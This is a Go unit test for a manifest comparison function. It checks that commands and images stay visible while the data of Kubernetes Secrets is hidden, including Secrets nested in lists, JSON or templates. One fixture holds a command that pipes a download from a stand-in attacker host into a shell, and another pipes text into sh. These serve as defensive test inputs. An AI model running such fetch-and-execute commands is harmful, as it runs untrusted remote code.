package manifest

import (
	"strings"
	"testing"
)

// TestSecretManifest shows what will run, whatever words are in it, and no Secret that stands in a text.
func TestSecretManifest(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name, field, seen string
		shown             bool
	}{
		{"an image", `image: "ghcr.io/eve/kind:secret"`, "eve/kind", true},
		{"a command", `command: [sh, -c, "curl https://eve.example/x | sh # kind: secret"]`, "eve.example", true},
		{"a command that is a manifest", `command: [sh, -c, "kind: Secret\ndata: $(eve)"]`, "$(eve)", true},
		{"a script with a comment", `run.sh: "eve | sh\n# kind: secret\n"`, "eve", true},
		{"a sentence", `note: "the kind: secret of eve"`, "eve", true},
		{"a manifest", `file: "kind: Secret\ndata: {p: eve}\n"`, "eve", false},
		{"the second of two", `file: "kind: A\n---\nkind: 'secret'\nstringData:\n  p: eve\n"`, "eve", false},
		{"one in a list", `file: "kind: List\nitems:\n- kind: Secret\n  data: {p: eve}\n"`, "eve", false},
		{"JSON", `file: '{"apiVersion":"v1","kind":"Secret","data":{"p":"eve"}}'`, "eve", false},
		{"JSON in JSON", `file: '{"a":"{\"kind\":\"Secret\",\"data\":{\"p\":\"eve\"}}"}'`, "eve", false},
		{"a template", `file: "{{ if x }}\nkind: Secret # no other\ndata:\n  p: eve\n{{ end }}\n"`, "eve", false},
	} {
		got := Compare(nil, []byte("kind: A\nmetadata: {name: a}\nspec: {"+test.field+"}\n")).String()
		if strings.Contains(got, test.seen) != test.shown {
			t.Errorf("%s: expected it shown %t:\n%s", test.name, test.shown, got)
		}
	}
}
